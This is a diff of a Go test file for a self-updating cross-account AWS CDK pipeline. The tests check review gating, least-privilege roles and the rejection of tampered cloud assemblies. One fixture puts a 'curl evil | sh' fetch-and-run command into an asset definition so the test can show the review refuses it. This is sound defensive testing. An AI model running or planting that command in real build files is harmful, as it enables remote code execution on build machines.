@@ -3,6 +3,7 @@ package stacks
 import (
 	"encoding/json"
 	"fmt"
+	"maps"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -15,27 +16,28 @@ import (
 	"github.com/stretchr/testify/require"
 
 	"github.com/crossaccount/cross-account-pipeline/assets"
+	"github.com/crossaccount/cross-account-pipeline/stacks/config"
 )
 
 func TestPipelineUpdatesItselfBeforeAnyDeploy(t *testing.T) {
-	review, synth := action(t, "Build", PipelineChangesAction), action(t, "Build", "CDK_Synth")
+	review, synth := action(t, "Build", config.PipelineChangesAction), action(t, "Build", "CDK_Synth")
 	assert.Greater(t, get(review, "RunOrder"), get(synth, "RunOrder"), "Pipeline_Changes reads what CDK_Synth produced")
 	assert.Equal(t, "CdkBuildOutput", get(review, "InputArtifacts", 0, "Name"))
-	assert.Equal(t, PipelineChangesNamespace, get(review, "Namespace"))
+	assert.Equal(t, config.PipelineChangesNamespace, get(review, "Namespace"))
 
-	for stage, variable := range map[string]string{ApproveUpdateStage: "WIDENS", UpdatePipelineStage: "CHANGED"} {
-		cond := get(stageOf(t, raw[PipelineStackID], stage), "BeforeEntry", "Conditions", 0)
+	for stage, variable := range map[string]string{config.ApproveUpdateStage: "WIDENS", config.UpdatePipelineStage: "CHANGED"} {
+		cond := get(stageOf(t, raw[config.PipelineStackID], stage), "BeforeEntry", "Conditions", 0)
 		assert.Equal(t, "SKIP", get(cond, "Result"), "%s is skipped, not failed, when there is nothing to do", stage)
 		rule := get(cond, "Rules", 0)
 		assert.Equal(t, "VariableCheck", get(rule, "RuleTypeId", "Provider"), "CodePipeline skips only on VariableCheck and LambdaInvoke rules")
-		assert.Equal(t, map[string]any{"Variable": "#{" + PipelineChangesNamespace + "." + variable + "}", "Operator": "EQ", "Value": "true"},
+		assert.Equal(t, map[string]any{"Variable": "#{" + config.PipelineChangesNamespace + "." + variable + "}", "Operator": "EQ", "Value": "true"},
 			get(rule, "Configuration"), "%s runs only when Pipeline_Changes set %s", stage, variable)
 	}
-	approval := action(t, ApproveUpdateStage, "Approve")
-	assert.Contains(t, get(approval, "Configuration", "CustomData"), "#{"+PipelineChangesNamespace+".REASON}", "the approver is told why")
-	assert.Contains(t, get(approval, "Configuration", "CustomData"), "#{"+PipelineChangesNamespace+".DIGEST}", "and what exactly they approve")
+	approval := action(t, config.ApproveUpdateStage, "Approve")
+	assert.Contains(t, get(approval, "Configuration", "CustomData"), "#{"+config.PipelineChangesNamespace+".REASON}", "the approver is told why")
+	assert.Contains(t, get(approval, "Configuration", "CustomData"), "#{"+config.PipelineChangesNamespace+".DIGEST}", "and what exactly they approve")
 
-	mutate := action(t, UpdatePipelineStage, "SelfMutate")
+	mutate := action(t, config.UpdatePipelineStage, "SelfMutate")
 	assert.Equal(t, "CdkBuildOutput", get(mutate, "InputArtifacts", 0, "Name"), "it deploys the assembly Pipeline_Changes reviewed")
 	vars := map[string]string{}
 	var decoded []map[string]string
@@ -43,13 +45,13 @@ func TestPipelineUpdatesItselfBeforeAnyDeploy(t *testing.T) {
 	for _, v := range decoded {
 		vars[v["name"]] = v["value"]
 	}
-	assert.Equal(t, "#{"+PipelineChangesNamespace+".WIDENS}", vars["REVIEWED_WIDENS"], "it refuses a widening the review did not see")
-	assert.Equal(t, "#{"+PipelineChangesNamespace+".DIGEST}", vars["REVIEWED_DIGEST"], "it deploys only the files the review saw")
+	assert.Equal(t, "#{"+config.PipelineChangesNamespace+".WIDENS}", vars["REVIEWED_WIDENS"], "it refuses a widening the review did not see")
+	assert.Equal(t, "#{"+config.PipelineChangesNamespace+".DIGEST}", vars["REVIEWED_DIGEST"], "it deploys only the files the review saw")
 	assert.Equal(t, "#{codepipeline.PipelineExecutionId}", vars["EXECUTION_ID"], "it stops the execution still running the old definition")
-	assert.Equal(t, "#{variables."+RestartedForVariable+"}", vars["RESTARTED_FOR"], "it refuses a second update for the same commit")
-	assert.Equal(t, []any{map[string]any{"Name": RestartedForVariable, "DefaultValue": "none",
+	assert.Equal(t, "#{variables."+config.RestartedForVariable+"}", vars["RESTARTED_FOR"], "it refuses a second update for the same commit")
+	assert.Equal(t, []any{map[string]any{"Name": config.RestartedForVariable, "DefaultValue": "none",
 		"Description": "Set by UpdatePipeline on the run it restarts: the commit that already updated the pipeline"}},
-		get(onlyIn(t, raw[PipelineStackID], "AWS::CodePipeline::Pipeline"), "Properties", "Variables"),
+		get(onlyIn(t, raw[config.PipelineStackID], "AWS::CodePipeline::Pipeline"), "Properties", "Variables"),
 		"the restart marks its run with the commit, which a push cannot set")
 }
 
@@ -58,9 +60,9 @@ func TestPipelineUpdatesItselfBeforeAnyDeploy(t *testing.T) {
 // from the deployed buildspec alone, and the CLI they run is pinned there.
 func TestTrustedProjectsRunNoRepositoryCode(t *testing.T) {
 	trusted := map[string]map[string]any{
-		PipelineChangesAction: projectOfAction(t, "Build", PipelineChangesAction),
-		"SelfMutate":          projectOfAction(t, UpdatePipelineStage, "SelfMutate"),
-		"RolesCheck":          projectOfAction(t, CheckRolesStage, ProdRolesStackID),
+		config.PipelineChangesAction: projectOfAction(t, "Build", config.PipelineChangesAction),
+		"SelfMutate":                 projectOfAction(t, config.UpdatePipelineStage, "SelfMutate"),
+		"RolesCheck":                 projectOfAction(t, config.CheckRolesStage, ProdRolesStackID),
 	}
 	for name, project := range trusted {
 		spec := buildspecOf(t, project)
@@ -91,7 +93,7 @@ func TestCDKCLIVersionIsThePinnedOne(t *testing.T) {
 // grantsOf lists "action on resource" for every Allow statement of a role's policies.
 func grantsOf(t *testing.T, roleLogicalID string) []string {
 	var out []string
-	for _, p := range resourcesOf(PipelineStackID, "AWS::IAM::Policy") {
+	for _, p := range resourcesOf(config.PipelineStackID, "AWS::IAM::Policy") {
 		roles := fmt.Sprint(get(p, "Properties", "Roles"))
 		if !strings.Contains(roles, roleLogicalID) {
 			continue
@@ -99,7 +101,7 @@ func grantsOf(t *testing.T, roleLogicalID string) []string {
 		for _, s := range list(get(p, "Properties", "PolicyDocument", "Statement")) {
 			for _, a := range list(get(s, "Action")) {
 				for _, r := range list(get(s, "Resource")) {
-					out = append(out, a.(string)+" on "+resolveArn(PipelineStackID, r))
+					out = append(out, a.(string)+" on "+resolveArn(config.PipelineStackID, r))
 				}
 			}
 		}
@@ -108,25 +110,25 @@ func grantsOf(t *testing.T, roleLogicalID string) []string {
 }
 
 func TestTrustedProjectsHoldOnlyWhatTheyUse(t *testing.T) {
-	pipelineStack := fmt.Sprintf("arn:aws:cloudformation:%s:%s:stack/%s/*", testConfig.Region, devAccount, PipelineStackID)
+	pipelineStack := fmt.Sprintf("arn:aws:cloudformation:%s:%s:stack/%s/*", testConfig.Region, devAccount, config.PipelineStackID)
 	bootstrap := func(kind string) string {
 		return fmt.Sprintf("arn:aws:iam::%s:role/cdk-hnb659fds-%s-role-%s-%s", devAccount, kind, devAccount, testConfig.Region)
 	}
 	// Beyond CDK's CodeBuild grants (logs, reports, artifacts), each project's role holds
 	// exactly these.
 	want := map[string][]string{
-		PipelineChangesAction: {"cloudformation:GetTemplate on " + pipelineStack,
-			fmt.Sprintf("codepipeline:GetPipelineState on arn:aws:codepipeline:%s:%s:%s", testConfig.Region, devAccount, PipelineName)},
+		config.PipelineChangesAction: {"cloudformation:GetTemplate on " + pipelineStack,
+			fmt.Sprintf("codepipeline:GetPipelineState on arn:aws:codepipeline:%s:%s:%s", testConfig.Region, devAccount, config.PipelineName)},
 		"SelfMutate": {
 			"cloudformation:GetTemplate on " + pipelineStack,
 			"sts:AssumeRole on " + bootstrap("deploy"), "sts:AssumeRole on " + bootstrap("file-publishing"),
-			fmt.Sprintf("codepipeline:GetPipelineState on arn:aws:codepipeline:%s:%s:%s", testConfig.Region, devAccount, PipelineName),
-			fmt.Sprintf("codepipeline:StartPipelineExecution on arn:aws:codepipeline:%s:%s:%s", testConfig.Region, devAccount, PipelineName),
-			fmt.Sprintf("codepipeline:StopPipelineExecution on arn:aws:codepipeline:%s:%s:%s", testConfig.Region, devAccount, PipelineName),
+			fmt.Sprintf("codepipeline:GetPipelineState on arn:aws:codepipeline:%s:%s:%s", testConfig.Region, devAccount, config.PipelineName),
+			fmt.Sprintf("codepipeline:StartPipelineExecution on arn:aws:codepipeline:%s:%s:%s", testConfig.Region, devAccount, config.PipelineName),
+			fmt.Sprintf("codepipeline:StopPipelineExecution on arn:aws:codepipeline:%s:%s:%s", testConfig.Region, devAccount, config.PipelineName),
 		},
-		"RolesCheck": {"sts:AssumeRole on arn:aws:iam::" + prodAccount + ":role/" + CrossAccountRoleName},
+		"RolesCheck": {"sts:AssumeRole on arn:aws:iam::" + prodAccount + ":role/" + config.CrossAccountRoleName},
 	}
-	stages := map[string]string{PipelineChangesAction: "Build", "SelfMutate": UpdatePipelineStage, "RolesCheck": CheckRolesStage}
+	stages := map[string]string{config.PipelineChangesAction: "Build", "SelfMutate": config.UpdatePipelineStage, "RolesCheck": config.CheckRolesStage}
 	for name, grants := range want {
 		actionName := name
 		if name == "RolesCheck" {
@@ -144,7 +146,7 @@ func TestTrustedProjectsHoldOnlyWhatTheyUse(t *testing.T) {
 		}
 		assert.ElementsMatch(t, grants, extra, "%s's role", name)
 	}
-	_, checkRole := onlyResourceNamed(t, PipelineStackID, "AWS::IAM::Role", RolesCheckRoleName)
+	_, checkRole := onlyResourceNamed(t, config.PipelineStackID, "AWS::IAM::Role", config.RolesCheckRoleName)
 	assert.NotNil(t, checkRole, "the roles check's role has the fixed name the roles stacks trust")
 }
 
@@ -161,7 +163,7 @@ func onlyResourceNamed(t *testing.T, stackID, typ, name string) (string, map[str
 // The session the roles check uses may read its roles stack and nothing else, whatever the
 // cross-account role's other statements allow.
 func TestRolesCheckSessionOnlyReads(t *testing.T) {
-	roleID, _ := onlyResourceNamed(t, ProdRolesStackID, "AWS::IAM::Role", CrossAccountRoleName)
+	roleID, _ := onlyResourceNamed(t, ProdRolesStackID, "AWS::IAM::Role", config.CrossAccountRoleName)
 	var deny, read map[string]any
 	for _, p := range resourcesOf(ProdRolesStackID, "AWS::IAM::Policy") {
 		if !strings.Contains(fmt.Sprint(get(p, "Properties", "Roles")), roleID) {
@@ -180,7 +182,7 @@ func TestRolesCheckSessionOnlyReads(t *testing.T) {
 	require.NotNil(t, read)
 	assert.Equal(t, "Deny", deny["Effect"])
 	assert.Equal(t, "*", deny["Resource"])
-	assert.Equal(t, map[string]any{"StringLike": map[string]any{"aws:userid": "*:" + RolesCheckSession}}, deny["Condition"],
+	assert.Equal(t, map[string]any{"StringLike": map[string]any{"aws:userid": "*:" + config.RolesCheckSession}}, deny["Condition"],
 		"aws:userid of an assumed-role session ends in its session name, which the trust requires of the check")
 	assert.ElementsMatch(t, list(read["Action"]), list(deny["NotAction"]), "the session may do exactly what ReadOwnRolesStack grants")
 	assert.Equal(t, fmt.Sprintf("arn:aws:cloudformation:%s:%s:stack/%s/*", testConfig.Region, prodAccount, ProdRolesStackID),
@@ -188,17 +190,17 @@ func TestRolesCheckSessionOnlyReads(t *testing.T) {
 }
 
 func TestRolesUpdateCommand(t *testing.T) {
-	cmd := RolesUpdateCommand(testConfig, prodAccount, "arn:aws:kms:eu-west-1:123456789012:key/k")
+	cmd := config.RolesUpdateCommand(testConfig, prodAccount, "arn:aws:kms:eu-west-1:123456789012:key/k")
 	assert.Equal(t, "make deploy-prod-roles DEV_ACCOUNT="+devAccount+" PROD_ACCOUNT="+prodAccount+" REGION="+testConfig.Region+
 		" KEY_ARN=arn:aws:kms:eu-west-1:123456789012:key/k", cmd)
 
-	list, err := NewConfig(map[string]any{EnvironmentsKey: threeEnvironments(), RegionKey: "eu-west-1", BranchKey: "main"})
+	list, err := config.NewConfig(map[string]any{config.EnvironmentsKey: threeEnvironments(), config.RegionKey: "eu-west-1", config.BranchKey: "main"})
 	require.NoError(t, err)
-	cmd = RolesUpdateCommand(list, stagingAccount, "K")
+	cmd = config.RolesUpdateCommand(list, stagingAccount, "K")
 	require.True(t, strings.HasPrefix(cmd, "make deploy-roles ENV=staging ENVIRONMENTS='"), cmd)
 	quoted := strings.TrimPrefix(cmd, "make deploy-roles ENV=staging ENVIRONMENTS='")
 	envs, _, _ := strings.Cut(quoted, "'")
-	again, err := NewConfig(map[string]any{EnvironmentsKey: envs, RegionKey: "eu-west-1", BranchKey: "main"})
+	again, err := config.NewConfig(map[string]any{config.EnvironmentsKey: envs, config.RegionKey: "eu-west-1", config.BranchKey: "main"})
 	require.NoError(t, err, "the command's ENVIRONMENTS is a valid list")
 	assert.Equal(t, list.Environments, again.Environments, "and the same list, so it synthesizes the same roles stack")
 }
@@ -231,7 +233,7 @@ func nodeBinary(t *testing.T) string {
 func TestReviewRefusesAnAssemblyThatRunsCode(t *testing.T) {
 	copyAssembly := func(t *testing.T) string {
 		dir := t.TempDir()
-		for _, f := range []string{"manifest.json", PipelineStackID + ".assets.json", PipelineStackID + ".template.json"} {
+		for _, f := range []string{"manifest.json", config.PipelineStackID + ".assets.json", config.PipelineStackID + ".template.json"} {
 			data, err := os.ReadFile(filepath.Join(outdir, f))
 			require.NoError(t, err)
 			require.NoError(t, os.WriteFile(filepath.Join(dir, f), data, 0o644))
@@ -239,7 +241,7 @@ func TestReviewRefusesAnAssemblyThatRunsCode(t *testing.T) {
 		return dir
 	}
 	check := func(dir string) (string, error) {
-		return reviewJS(t, nil, "assembly", dir, PipelineStackID, devAccount, testConfig.Region, filepath.Join(t.TempDir(), "reviewed"))
+		return reviewJS(t, nil, "assembly", dir, config.PipelineStackID, devAccount, testConfig.Region, filepath.Join(t.TempDir(), "reviewed"))
 	}
 	good := copyAssembly(t)
 	out, err := check(good)
@@ -249,17 +251,17 @@ func TestReviewRefusesAnAssemblyThatRunsCode(t *testing.T) {
 	require.NoError(t, err)
 	assert.Equal(t, out, again, "the digest of the same files is the same")
 	reviewed := filepath.Join(t.TempDir(), "reviewed")
-	_, err = reviewJS(t, nil, "assembly", good, PipelineStackID, devAccount, testConfig.Region, reviewed)
+	_, err = reviewJS(t, nil, "assembly", good, config.PipelineStackID, devAccount, testConfig.Region, reviewed)
 	require.NoError(t, err)
 	names, err := readDirNames(reviewed)
 	require.NoError(t, err)
-	assert.ElementsMatch(t, []string{"manifest.json", PipelineStackID + ".assets.json", PipelineStackID + ".template.json"}, names,
+	assert.ElementsMatch(t, []string{"manifest.json", config.PipelineStackID + ".assets.json", config.PipelineStackID + ".template.json"}, names,
 		"the CLI gets the reviewed files and nothing else")
 	manifest, err := jsonFile(filepath.Join(reviewed, "manifest.json"))
 	require.NoError(t, err)
-	assert.ElementsMatch(t, []string{PipelineStackID, PipelineStackID + ".assets"}, sortedKeys(manifest["artifacts"].(map[string]any)),
+	assert.ElementsMatch(t, []string{config.PipelineStackID, config.PipelineStackID + ".assets"}, slices.Sorted(maps.Keys(manifest["artifacts"].(map[string]any))),
 		"the manifest the CLI reads names this stack alone")
-	_, err = reviewJS(t, nil, "assembly", good, PipelineStackID, devAccount, testConfig.Region, reviewed)
+	_, err = reviewJS(t, nil, "assembly", good, config.PipelineStackID, devAccount, testConfig.Region, reviewed)
 	assert.Error(t, err, "the reviewed files go into a new folder, never over other files")
 
 	edit := func(t *testing.T, file string, change func(m map[string]any)) string {
@@ -272,33 +274,33 @@ func TestReviewRefusesAnAssemblyThatRunsCode(t *testing.T) {
 		return dir
 	}
 	for name, dir := range map[string]string{
-		"an asset command": edit(t, PipelineStackID+".assets.json", func(m map[string]any) {
+		"an asset command": edit(t, config.PipelineStackID+".assets.json", func(m map[string]any) {
 			for _, f := range m["files"].(map[string]any) {
 				f.(map[string]any)["source"] = map[string]any{"executable": []any{"sh", "-c", "curl evil | sh"}}
 			}
 		}),
 		"another template": edit(t, "manifest.json", func(m map[string]any) {
-			get(m, "artifacts", PipelineStackID, "properties").(map[string]any)["templateFile"] = "Other.template.json"
+			get(m, "artifacts", config.PipelineStackID, "properties").(map[string]any)["templateFile"] = "Other.template.json"
 		}),
 		"another account": edit(t, "manifest.json", func(m map[string]any) {
-			get(m, "artifacts", PipelineStackID).(map[string]any)["environment"] = "aws://999999999999/" + testConfig.Region
+			get(m, "artifacts", config.PipelineStackID).(map[string]any)["environment"] = "aws://999999999999/" + testConfig.Region
 		}),
 		"a dependency": edit(t, "manifest.json", func(m map[string]any) {
-			s := get(m, "artifacts", PipelineStackID).(map[string]any)
+			s := get(m, "artifacts", config.PipelineStackID).(map[string]any)
 			s["dependencies"] = append(list(s["dependencies"]), "RepositoryStack")
 		}),
 		"another stack under the same display name": edit(t, "manifest.json", func(m map[string]any) {
-			get(m, "artifacts", PipelineStackID).(map[string]any)["displayName"] = "Harmless"
-			get(m, "artifacts", "RepositoryStack").(map[string]any)["displayName"] = PipelineStackID
+			get(m, "artifacts", config.PipelineStackID).(map[string]any)["displayName"] = "Harmless"
+			get(m, "artifacts", "RepositoryStack").(map[string]any)["displayName"] = config.PipelineStackID
 		}),
 		"a template URL of its own": edit(t, "manifest.json", func(m map[string]any) {
-			get(m, "artifacts", PipelineStackID, "properties").(map[string]any)["stackTemplateAssetObjectUrl"] = "s3://elsewhere/t.json"
+			get(m, "artifacts", config.PipelineStackID, "properties").(map[string]any)["stackTemplateAssetObjectUrl"] = "s3://elsewhere/t.json"
 		}),
 		"another execution role": edit(t, "manifest.json", func(m map[string]any) {
-			get(m, "artifacts", PipelineStackID, "properties").(map[string]any)["cloudFormationExecutionRoleArn"] = "arn:aws:iam::123456789012:role/Other"
+			get(m, "artifacts", config.PipelineStackID, "properties").(map[string]any)["cloudFormationExecutionRoleArn"] = "arn:aws:iam::123456789012:role/Other"
 		}),
 		"stack tags": edit(t, "manifest.json", func(m map[string]any) {
-			get(m, "artifacts", PipelineStackID, "properties").(map[string]any)["tags"] = map[string]any{"team": "admins"}
+			get(m, "artifacts", config.PipelineStackID, "properties").(map[string]any)["tags"] = map[string]any{"team": "admins"}
 		}),
 		"context lookups": edit(t, "manifest.json", func(m map[string]any) {
 			m["missing"] = []any{map[string]any{"key": "vpc-provider:x", "provider": "vpc-provider"}}
@@ -307,7 +309,7 @@ func TestReviewRefusesAnAssemblyThatRunsCode(t *testing.T) {
 			m["artifacts"].(map[string]any)["Nested"] = map[string]any{"type": "cdk:cloud-assembly", "properties": map[string]any{"directoryName": "x"}}
 		}),
 		"a legacy asset": edit(t, "manifest.json", func(m map[string]any) {
-			get(m, "artifacts", PipelineStackID).(map[string]any)["metadata"] = map[string]any{"/" + PipelineStackID + "/Code": []any{
+			get(m, "artifacts", config.PipelineStackID).(map[string]any)["metadata"] = map[string]any{"/" + config.PipelineStackID + "/Code": []any{
 				map[string]any{"type": "aws:cdk:asset", "data": map[string]any{"packaging": "container-image", "path": "."}}}}
 		}),
 		"a symlink": func() string {
@@ -317,7 +319,7 @@ func TestReviewRefusesAnAssemblyThatRunsCode(t *testing.T) {
 		}(),
 		"a template that is a symlink": func() string {
 			dir := copyAssembly(t)
-			template := filepath.Join(dir, PipelineStackID+".template.json")
+			template := filepath.Join(dir, config.PipelineStackID+".template.json")
 			require.NoError(t, os.Rename(template, template+".real"))
 			require.NoError(t, os.Symlink(template+".real", template))
 			return dir
